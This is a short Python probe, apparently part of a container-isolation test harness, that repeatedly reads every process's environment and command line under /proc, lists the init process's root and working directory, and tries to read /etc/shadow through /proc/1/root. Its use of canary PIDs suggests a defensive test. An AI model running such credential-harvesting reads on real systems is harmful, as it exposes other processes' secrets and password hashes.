import os

from hostile_kit import TARGETS, forever, record, serve, try_list, try_read


def snoop():
    try_read("/proc/1/environ", 4000)
    try_read("/proc/self/environ", 4000)
    for pid in sorted({*(p for p in os.listdir("/proc") if p.isdigit()), *map(str, TARGETS["canary_pids"]),
                       str(TARGETS["worker_pid"])}):
        try_read(f"/proc/{pid}/environ", 4000)
        try_read(f"/proc/{pid}/cmdline", 400)
    try_read("/proc/self/mounts", 4000)
    try_list("/proc/1/root")
    try_list("/proc/1/cwd")
    try_read("/proc/1/root/etc/shadow")
    record("note", "snoop done", len(os.listdir("/proc")))


forever(snoop, every=2, name="snoop")
serve()
